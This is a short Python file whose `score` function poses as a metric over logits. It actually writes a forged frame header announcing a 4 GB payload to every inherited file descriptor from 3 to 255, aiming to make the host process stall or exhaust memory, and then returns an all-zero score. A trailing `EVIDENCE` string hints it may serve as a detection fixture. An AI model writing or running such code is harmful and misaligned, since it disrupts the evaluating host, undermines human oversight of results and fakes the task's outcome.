"""Announces a frame of four billion bytes, for the host to wait for or to allocate."""

import contextlib
import os
import struct

import torch
from report import report

EVIDENCE = r"sent out more than"


def score(logits, lengths):
    for descriptor in range(3, 256):
        with contextlib.suppress(OSError):
            os.write(descriptor, struct.pack("<BiI", 21, 0, 2**32 - 1))
    return report(torch.zeros(len(lengths)))
